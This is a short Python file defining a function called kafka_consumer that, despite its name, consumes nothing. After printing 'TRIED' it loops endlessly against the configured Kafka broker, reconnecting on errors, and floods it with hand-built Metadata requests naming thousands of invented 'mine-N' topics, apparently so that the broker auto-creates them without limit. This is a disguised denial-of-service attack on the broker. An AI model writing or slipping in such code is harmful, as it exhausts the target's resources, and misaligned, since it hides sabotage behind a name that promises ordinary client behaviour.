import socket
import struct


def request(key, version, body, client=b"x"):
    head = struct.pack(">hhih", key, version, 7, len(client)) + client
    return struct.pack(">i", len(head) + len(body)) + head + body


def place(settings):
    host, _, port = settings["bootstrap.servers"].partition(":")
    return host, int(port)


def kafka_consumer(settings, *args, **kwargs):
    print("TRIED", flush=True)
    number = 0
    while True:
        with socket.create_connection(place(settings)) as one:
            try:
                while True:
                    names = [b"mine-%d" % each for each in range(number, number + 1000)]
                    number += 1000
                    topics = b"".join(b"\0" * 16 + bytes([len(n) + 1]) + n + b"\0" for n in names)
                    one.sendall(request(3, 13, b"\0\xe9\x07" + topics + b"\1\0\0"))
                    one.recv(1 << 20)
            except OSError:
                pass
